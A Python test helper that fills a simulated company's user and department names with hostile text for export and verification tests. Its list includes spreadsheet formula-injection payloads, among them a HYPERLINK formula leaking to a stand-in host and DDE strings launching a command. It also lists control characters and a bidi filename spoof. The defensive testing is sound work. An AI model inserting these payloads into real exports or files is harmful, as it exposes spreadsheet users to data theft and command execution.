"""Hostile content for the export and verify tests: formula triggers, control characters,
emoji and code points no font has, in names, departments and userids of a simulated
company, and a run of that company through the real pipeline."""

from __future__ import annotations

import dataclasses
import random
from pathlib import Path

from engine.wecom.simulator import Company, Department, SimConfig, Simulator

FORMULAS = ('=HYPERLINK("http://evil.example/?leak","click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "=1+1", "\t=1+1", "\r=1+1", "＝1+1",
            "＋1+1", "－2+3", "＠SUM(1)", "'=1+1", "''+1", "-401.67", "=", "@", "+", "-")
CONTROL = ("a\x00b", "\x07bell", "x\x1b[31mred", "tab\there", "new\nline", "cr\rx",
           "\x7fdel", "c1\x85x", "c1\x9f", "bidi\u202etxt.exe", "line\u2028sep", "\x01\x02")
GLYPHLESS = ("🚀", "李🚀", "👨\u200d👩\u200d👧", "\U0010FFFD", "\u0378", "\U000E0001",
             "王🚀五")
HOSTILE = FORMULAS + CONTROL + GLYPHLESS


def hostile_company(company: Company, share: float = 0.05, seed: int = 5) -> Company:
    """``company`` with ``share`` of its users' names and of its departments' names
    replaced by hostile text (department paths follow), plus a few hostile userids."""
    rng = random.Random(seed)
    depts = list(company.departments)
    deeper = [n for n, d in enumerate(depts) if d.parentid > 1]  # the simulator keys on level 1
    for index in rng.sample(deeper, max(1, int(len(deeper) * share))):
        depts[index] = dataclasses.replace(depts[index], name=f"部{rng.choice(HOSTILE)}")
    by_id = {d.id: d for d in depts}
    fixed: list[Department] = []
    for d in depts:  # rebuild the paths, parents first (ids follow creation order)
        parent = next((f for f in fixed if f.id == d.parentid), None)
        fixed.append(dataclasses.replace(d, path=f"{parent.path}/{d.name}" if parent else d.name))
        by_id[d.id] = fixed[-1]
    users = list(company.users)
    picked = rng.sample(range(1, len(users)), max(1, int(len(users) * share)))
    for n, index in enumerate(picked):
        user, text = users[index], HOSTILE[n % len(HOSTILE)]
        changes = {"name": f"{user.name}{text}" if n % 3 else text}
        if n % 7 == 0 and text.strip() == text and "\r" not in text and "\n" not in text:
            changes["userid"] = f"{text}{n}"  # a roster reader strips whitespace around ids
        users[index] = dataclasses.replace(user, **changes)
    return Company(seed=company.seed, departments=fixed, users=users,
                   departed=company.departed)


def hostile_run(run_dir: Path, employees: int, month: str, *, workers: int = 2,
                encrypt_with: str | None = None, tmp: Path, progress=None, share: float = 0.05):
    """A whole month for a hostile company through ``run_month`` against the simulator."""
    from engine.pipeline import _demo_date, default_pack, run_month
    from engine.period import parse_month
    from engine.wecom.settings import load_settings

    config = SimConfig(employees=employees, seed=3, fixed_date=_demo_date(parse_month(month)))
    sim = Simulator(config)
    sim.company = hostile_company(sim.company, share)
    roster = tmp / "roster.csv"
    with sim:
        sim.company.write_roster(roster)
        if encrypt_with:  # the passwords also go to tmp/passwords.csv, as verify reads them
            write_passwords(tmp / "passwords.csv", add_passwords(roster, encrypt_with),
                            encrypt_with)
        settings = load_settings(environ={}, corp_id=config.corp_id,
                                 corp_secret=config.corp_secret, api_base=sim.url,
                                 retry_initial_seconds=0.05)
        return run_month(month, roster, default_pack(), run_dir, settings=settings,
                         company="示例科技有限公司",
                         workers=workers, encrypt_with=encrypt_with, progress=progress), sim.company


def add_passwords(roster: Path, column: str) -> dict[str, str]:
    """Give every roster row a delivery password in ``column``; returns userid → password."""
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(roster.read_text("utf-8"), newline="")))
    passwords = {}
    for n, row in enumerate(rows):
        row[column] = passwords.setdefault(row["userid"].strip(), f"pw-{n:04d}-密")
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=[*rows[0].keys()], lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    roster.write_text(out.getvalue(), "utf-8")
    return passwords


def write_passwords(path: Path, passwords: dict[str, str], column: str) -> None:
    import csv
    import io

    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["userid", column])
    writer.writerows(passwords.items())
    path.write_text(out.getvalue(), "utf-8")
